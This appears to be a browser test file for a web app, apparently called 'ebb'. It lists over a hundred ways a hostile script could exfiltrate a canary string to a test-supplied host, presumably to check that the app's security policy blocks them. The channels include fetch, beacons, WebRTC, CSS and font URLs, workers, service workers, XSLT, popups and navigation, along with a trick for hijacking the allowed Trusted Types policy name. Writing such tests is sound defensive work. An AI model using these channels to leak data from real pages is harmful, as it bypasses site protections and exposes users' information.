// Every way in which a hostile script in our own page could try to send data out; tests put it before boot.js.
(() => {
  const word = "CANARY";

  // The policy allows one name for a Trusted Types policy, `ebb`; an attacker would use that name.
  const plain = { createHTML: String, createScript: String, createScriptURL: String };
  let trust;
  for (const it of ["ways-out", "ebb"]) try { trust ??= self.trustedTypes.createPolicy(it, plain); } catch {}
  trust ??= plain;
  const html = (it) => trust.createHTML(it), file = (it) => trust.createScriptURL(it);
  const image = (u) => `<img src="${u}">`, sent = (u) => `fetch("${u}",{mode:"no-cors"}).catch(()=>{})`;
  const page = (u) => `<!doctype html>${image(u)}<script>${sent(u)}</script>`;

  // This file as a worker of our own origin: `?kind=address` says what to try.
  if (!self.document) {
    const [, kind, to] = location.search.match(/^\?(\w+)=(.*)/);
    const tries = {
      idle() {},
      fetch: () => fetch(to, { mode: "no-cors" }).catch(() => {}),
      socket: () => new WebSocket(to.replace("http", "ws")),
      script: () => importScripts(file(to)),
      nested: () => new Worker(file(`${location.pathname}?fetch=${to}`)),
      page: () => addEventListener("fetch", (e) => e.request.mode === "navigate" && e.respondWith(
        new Response(page(to), { headers: { "Content-Type": "text/html" } }))),
    };
    try { tries[kind](); } catch {}
    return;
  }

  // Makes one way for each item of the list, with the item in its name.
  const each = (start, list, go) => Object.fromEntries(
    list.map((it) => [start + it.replace(/\W+/g, "-"), (u, host) => go(it, u, host)]));
  const kept = [], keep = (it) => kept[kept.push(it) - 1];
  const set = (it, values) => {
    for (const [name, value] of Object.entries(values)) it.setAttribute(name, value);
    return it;
  };
  const put = (tag, values = {}, to = document.body) =>
    to.appendChild(set(document.createElement(tag), values));
  const draw = (it) => document.createElementNS("http://www.w3.org/2000/svg", it);
  const drawn = (tag, values, to) =>
    (to ?? document.body.appendChild(draw("svg"))).appendChild(set(draw(tag), values));
  const head = (tag, values) => put(tag, values, document.head);
  const link = (rel, href) => {
    document.querySelector(`link[rel=${rel}]`)?.remove();
    head("link", { rel, href });
  };
  const script = (type, text) => { head("script", { type }).textContent = trust.createScript(text); };
  const styled = (name, value) => {
    const it = put("p", { class: "card" });
    it.textContent = "a";
    Object.assign(it.style, { display: "list-item", float: "left", borderStyle: "solid" });
    it.style.setProperty(name, value);
  };
  const [sheet] = document.styleSheets;
  const rule = (text, first) => sheet.insertRule(text, first ? 0 : sheet.cssRules.length);
  const fonts = (u, name) => `@font-face{font-family:${name};src:url(${u})}`;
  const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
  const data = (type, text) => `data:${type},${encodeURIComponent(text)}`;
  const picture = (u, of = self) => { keep(new of.Image()).src = u; };
  const click = (values) => put("a", values).click();
  const form = (values, u) => {
    const it = put("form", { action: u, ...values });
    put("input", { name: "word", value: word }, it);
    it.submit();
  };
  const call = async (iceServers) => {
    const it = keep(new RTCPeerConnection({ iceServers }));
    it.createDataChannel("a");
    await it.setLocalDescription();
    return it;
  };
  // Sends from a window with a file of our own, which the server may have sent without our headers.
  const within = (it, path, u) => {
    const timer = setInterval(() => {
      try {
        if (it.location.pathname !== path || it.document.readyState !== "complete") return;
        clearInterval(timer);
        it.fetch(u).catch(() => {});
      } catch {}
    }, 50);
  };
  const going = (then) => { addEventListener("pagehide", then); location.reload(); };
  const worker = (url, more) => keep(new Worker(file(url), more));
  const service = async (kind, u) => {
    const scope = `/ways-out/${kind}/`;
    const it = await navigator.serviceWorker.register(file(`/ways-out.js?${kind}=${u}`), { scope });
    while (it.installing || it.waiting) await new Promise((then) => { setTimeout(then, 50); });
    return it;
  };
  const parsed = (text, type) => new DOMParser().parseFromString(html(text), type);
  const transform = (inside) => {
    const it = new XSLTProcessor();
    const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">${inside}`;
    it.importStylesheet(parsed(`${sheet}</xsl:stylesheet>`, "text/xml"));
    it.transformToFragment(parsed("<a/>", "text/xml"), document);
  };
  const ready = (it, name) => Promise.all([keep(it)[name], it.closed]);
  const bought = { total: { label: "a", amount: { currency: "EUR", value: "1" } } };

  // Each function gets a URL and its host name.
  const stays = {
    "fetch-get": (u) => fetch(u),
    "fetch-post": (u) => fetch(u, { method: "POST", body: word }),
    "fetch-no-cors": (u) => fetch(u, { method: "POST", body: word, mode: "no-cors" }),
    "fetch-keepalive": (u) => fetch(u, { keepalive: true, mode: "no-cors" }),
    "fetch-referrer": (u) => fetch(u, { referrer: `/${word}`, referrerPolicy: "unsafe-url" }),
    "fetch-later": (u) => fetchLater(u, { method: "POST", body: word, activateAfter: 0 }),
    "cache-add": async (u) => (await caches.open("a")).add(u),
    "xhr": (u) => { const it = new XMLHttpRequest(); it.open("GET", u); it.send(); },
    "beacon": (u) => navigator.sendBeacon(u, word),
    "socket": (u, host) => keep(new WebSocket(`wss://${host}/${word}`)),
    "socket-stream": (u, host) => ready(new WebSocketStream(`wss://${host}/${word}`), "opened"),
    "event-source": (u) => keep(new EventSource(u)),
    "web-transport": (u) => ready(new WebTransport(u), "ready"),
    ...each("webrtc-", ["stun:3478", "stun:19302", "turn:3478", "turn:3478?transport=tcp", "turns:443"],
      (it, u, host) => call([{ urls: it.replace(":", `:${host}:`), username: word, credential: word }])),
    "webrtc-candidate": async (u, host) => {
      const a = await call([]), b = keep(new RTCPeerConnection());
      await b.setRemoteDescription(a.localDescription);
      await b.setLocalDescription();
      await a.setRemoteDescription(b.localDescription);
      const candidate = `candidate:1 1 udp 2113937151 ${host} 3478 typ host`;
      await a.addIceCandidate({ candidate, sdpMid: "0", sdpMLineIndex: 0 });
    },
    "webrtc-identity": (u, host) => {
      keep(new RTCPeerConnection()).setIdentityProvider(host, { protocol: word });
      return kept.at(-1).getIdentityAssertion();
    },
    "image": (u) => picture(u),
    "image-srcset": (u) => put("img", { srcset: `${u} 1x` }),
    "picture": (u) => { const it = put("picture"); put("source", { srcset: u }, it); put("img", {}, it); },
    "image-input": (u) => put("input", { type: "image", src: u }),
    "background-attribute": (u) => put("table", { background: u }),
    "attribution": (u) => put("img", { attributionsrc: u }),
    "html": (u) => { put("div").innerHTML = html(image(u)); },
    "html-unsafe": (u) => put("div").setHTMLUnsafe(html(image(u))),
    "html-fragment": (u) => document.body.append(new Range().createContextualFragment(html(image(u)))),
    "html-parser": (u) => document.body.append(parsed(image(u), "text/html").images[0]),
    "html-handler": (u) => { put("div").innerHTML = html(`<img src="/none" onerror='${sent(u)}'>`); },
    ...each("css-", ["background-image", "border-image-source", "content", "list-style-image", "mask-image",
      "shape-outside", "filter", "clip-path"], (it, u) => styled(it, `url(${u}#a)`)),
    "css-cursor": (u) => styled("cursor", `url(${u}),auto`),
    "style": (u) => { head("style").textContent = `body{background-image:url(${u})}`; },
    "style-import": (u) => { head("style").textContent = `@import url(${u});`; },
    "style-attribute": (u) => put("p", { style: `background:url(${u})` }),
    "rule": (u) => rule(`html{background-image:url(${u})!important}`),
    "rule-import": (u) => rule(`@import url(${u});`, true),
    "rule-font": (u) => { rule(fonts(u, "b")); styled("font-family", "b"); },
    "sheet-adopted": (u) => {
      document.adoptedStyleSheets.push(new CSSStyleSheet());
      document.adoptedStyleSheets.at(-1).replaceSync(`p{background-image:url(${u})}`);
    },
    "style-font": (u) => { head("style").textContent = fonts(u, "c"); styled("font-family", "c"); },
    "font": (u) => new FontFace("d", `url(${u})`).load(),
    "svg-image": (u) => drawn("image", { href: u, width: 9, height: 9 }),
    "svg-animated": (u) => drawn("set", { attributeName: "href", to: u },
      drawn("image", { width: 9, height: 9 })),
    "svg-use": (u) => drawn("use", { href: `${u}#a` }),
    "svg-fe-image": (u) => {
      const it = drawn("feImage", { href: u }, drawn("filter", { id: "out" })).parentNode;
      drawn("rect", { width: 9, height: 9, filter: "url(#out)" }, it.parentNode);
    },
    "svg-fill": (u) => drawn("rect", { width: 9, height: 9, fill: `url(${u}#a)` }),
    "svg-script": (u) => drawn("script", { href: file(u) }),
    "script": (u) => put("script", { src: file(u) }),
    "script-module": (u) => put("script", { type: "module", src: file(u) }),
    "import": (u) => import(u),
    "import-json": (u) => import(u, { with: { type: "json" } }),
    "import-blob": (u) => import(blob(`import "${u}"`, "text/javascript")),
    "import-map": (u) => { script("importmap", `{"imports":{"out":"${u}"}}`); return import("out"); },
    ...each("link-", ["stylesheet", "icon", "manifest", "modulepreload", "prefetch", "prerender",
      "preconnect", "dns-prefetch", "compression-dictionary"], link),
    ...each("link-preload-", ["image", "font", "script", "fetch"],
      (as, u) => head("link", { rel: "preload", href: u, as, crossorigin: "" })),
    "link-preload-srcset": (u) => head("link", { rel: "preload", as: "image", imagesrcset: `${u} 1x` }),
    "anchor-dns": (u) => {
      head("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" });
      put("a", { href: u });
    },
    ...each("speculation-", ["prefetch", "prerender"], (it, u) => script("speculationrules",
      JSON.stringify({ [it]: [{ source: "list", urls: [u], eagerness: "immediate" }] }))),
    ...each("", ["iframe", "embed", "video", "audio"], (it, u) => put(it, { src: u, preload: "auto" })),
    "iframe-srcdoc": (u) => put("iframe", { srcdoc: html(image(u)) }),
    "iframe-srcdoc-script": (u) => put("iframe", { srcdoc: html(`<script>${sent(u)}</script>`) }),
    "iframe-blob": (u) => put("iframe", { src: blob(page(u), "text/html") }),
    "iframe-data": (u) => put("iframe", { src: data("text/html", page(u)) }),
    "iframe-script-address": (u) => put("iframe", { src: `javascript:parent.${sent(u)}` }),
    "iframe-blank-fetch": (u) => put("iframe").contentWindow.fetch(u),
    "iframe-blank-image": (u) => picture(u, put("iframe").contentWindow),
    "iframe-own-missing": (u) => within(put("iframe", { src: "/no/" }).contentWindow, "/no/", u),
    "object": (u) => put("object", { data: u }),
    "video-poster": (u) => put("video", { poster: u }),
    "video-source": (u) => put("source", { src: u }, put("video", { preload: "auto" })),
    "video-track": (u) => {
      const it = put("track", { src: u, default: "" }, put("video", { crossorigin: "", src: "/none.webm" }));
      it.track.mode = "showing";
    },
    "media-session": (u) => Object.assign(navigator.mediaSession,
      { metadata: new MediaMetadata({ title: word, artwork: [{ src: u }] }) }),
    "form-in-frame": (u) => { put("iframe", { name: "room" }); form({ target: "room" }, u); },
    "ping": (u) => click({ href: "#a", ping: u }),
    "worker-blob": (u) => worker(blob(sent(u), "text/javascript")),
    "worker-blob-module": (u) => worker(blob(`import "${u}"`, "text/javascript"), { type: "module" }),
    "worker-data": (u) => worker(data("text/javascript", sent(u))),
    "worker-elsewhere": (u) => worker(u),
    ...each("worker-own-", ["fetch", "socket", "script", "nested"],
      (it, u) => worker(`/ways-out.js?${it}=${u}`)),
    "worker-shared-blob": (u) => keep(new SharedWorker(file(blob(sent(u), "text/javascript")))),
    "worker-shared": (u) => keep(new SharedWorker(file(`/ways-out.js?fetch=${u}`))),
    ...each("service-worker-", ["fetch", "script"], service),
    "background-fetch": async (u) => (await service("idle", u)).backgroundFetch.fetch(word, [u]),
    "worklet-paint": (u) => CSS.paintWorklet.addModule(u),
    "worklet-audio": (u) => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(u),
    "worklet-audio-blob": (u) => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(
      blob(`import "${u}"`, "text/javascript")),
    "xslt-document": (u) => transform(
      `<xsl:template match="/"><xsl:copy-of select="document('${u}')"/></xsl:template>`),
    "xslt-import": (u) => transform(`<xsl:import href="${u}"/>`),
    "cookie": (u, host) => { document.cookie = `word=${word}; domain=${host}`; },
    "message": (u, host) => [parent, opener, top].forEach((it) => it?.postMessage({ host, word }, "*")),
    "protocol-handler": (u) => navigator.registerProtocolHandler("web+ebb", `${u}?%s`),
    "payment": (u) => keep(new PaymentRequest([{ supportedMethods: u }], bought)).canMakePayment(),
    "identity": (u) => navigator.credentials.get(
      { identity: { providers: [{ configURL: u, clientId: word }] } }),
    "passkey": (u, host) => navigator.credentials.get(
      { publicKey: { challenge: new Uint8Array(16), rpId: host, timeout: 1000 } }),
    "notification": async (u) => {
      await Notification.requestPermission();
      return keep(new Notification(word, { icon: u, image: u, badge: u }));
    },
    "share": (u) => navigator.share({ title: word, url: u }),
    "badge": () => navigator.setAppBadge(7),
    "install": (u) => navigator.install(u, u),
    "shared-storage": (u) => sharedStorage.createWorklet(u, { dataOrigin: "script-origin" }),
    "interest-group": (u, host) => navigator.joinAdInterestGroup({ name: word, owner: `https://${host}` }, 9),
  };

  const leaves = {
    ...each("location-", ["assign", "replace"], (it, u) => location[it](u)),
    "location-data": (u) => location.assign(data("text/html", page(u))),
    "location-blob": (u) => location.assign(blob(page(u), "text/html")),
    "location-script": (u) => location.assign(`javascript:${sent(u)}`),
    "navigate": (u) => navigation.navigate(u).finished,
    "open-self": (u) => open(u, "_self"),
    "window-name": (u) => { window.name = word; location.assign(u); },
    "meta-refresh": (u) => head("meta", { "http-equiv": "refresh", content: `0;url=${u}` }),
    "meta-report": (u) => {
      head("meta", { "http-equiv": "content-security-policy", content: `img-src 'none'; report-uri ${u}` });
      picture("/icons/ebb.svg?refused");
    },
    "base": (u) => { head("base", { href: u }); put("img", { src: word }); },
    "history": (u) => { history.pushState(0, "", `/${word}`); picture(u); },
    "document-write": (u) => { document.open(); document.write(html(image(u))); document.close(); },
    "frameset": (u) => { put("frame", { src: u }, document.body = document.createElement("frameset")); },
    "beacon-on-leaving": (u) => going(() => navigator.sendBeacon(u, word)),
    "fetch-on-leaving": (u) => going(() => fetch(u, { keepalive: true, mode: "no-cors" }).catch(() => {})),
    "link": (u) => click({ href: u }),
    "link-blank": (u) => click({ href: u, target: "_blank" }),
    "link-download": (u) => click({ href: u, download: word }),
    "link-area": (u) => put("area", { href: u }, put("map")).click(),
    "link-svg": (u) => drawn("a", { href: u }).dispatchEvent(new MouseEvent("click", { bubbles: true })),
    ...each("form-", ["get", "post"], (method, u) => form({ method }, u)),
    "form-blank": (u) => form({ target: "_blank", method: "post" }, u),
    "form-button": (u) => put("button", { formaction: u }, put("form")).click(),
    "open": (u) => open(u),
    "open-noopener": (u) => open(u, "_blank", "noopener"),
    "popup-image": (u) => picture(u, open()),
    "popup-fetch": (u) => open().fetch(u),
    "popup-location": (u) => { open().location = u; },
    "popup-write": (u) => { const it = open(); it.document.write(html(page(u))); it.document.close(); },
    "popup-blob": (u) => open(blob(page(u), "text/html")),
    "popup-blob-xml": (u) => open(blob(`<?xml-stylesheet type="text/css" href="${u}"?><a/>`, "text/xml")),
    "popup-script-address": (u) => open(`javascript:opener.${sent(u)}`),
    "popup-own-missing": (u) => within(open("/no/"), "/no/", u),
    "popup-own-icon": (u) => within(open("/icons/ebb.svg"), "/icons/ebb.svg", u),
    "popup-small": async (u) => picture(u, await documentPictureInPicture.requestWindow()),
    "cache-page": async (u) => {
      await navigator.serviceWorker.register(file("/sw.js")).catch(() => {});
      await navigator.serviceWorker.ready;
      const kept = () => new Response(page(u), { headers: { "Content-Type": "text/html" } });
      for (const it of await caches.keys()) await (await caches.open(it)).put("/es/", kept());
      location.assign("/es/");
    },
    "service-worker-page": async (u) => { await service("page", u); location.assign("/ways-out/page/"); },
    "mail": (u, host) => location.assign(`mailto:x@${host}?body=${word}`),
    "text-message": (u, host) => click({ href: `sms:+15550100?body=${word}%20${host}` }),
  };

  const ways = (table, more) => Object.entries(table).map(([name, start]) => ({
    name,
    ...more,
    async go(host) {
      try {
        await start(`https://${host}/${word}`, host);
      } catch {}
    },
  }));
  window.waysOut = [...ways(stays), ...ways(leaves, { leaves: true })];
})();
